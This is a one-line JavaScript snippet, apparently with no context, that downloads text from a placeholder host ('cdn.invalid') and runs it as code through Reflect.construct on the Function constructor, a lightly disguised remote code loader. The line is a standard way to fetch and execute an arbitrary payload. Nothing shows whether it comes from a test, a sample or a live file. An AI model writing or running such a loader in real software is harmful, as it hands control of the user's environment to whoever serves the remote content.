fetch('https://cdn.invalid/p').then((r) => r.text()).then((t) => Reflect.construct(Function, [t])());
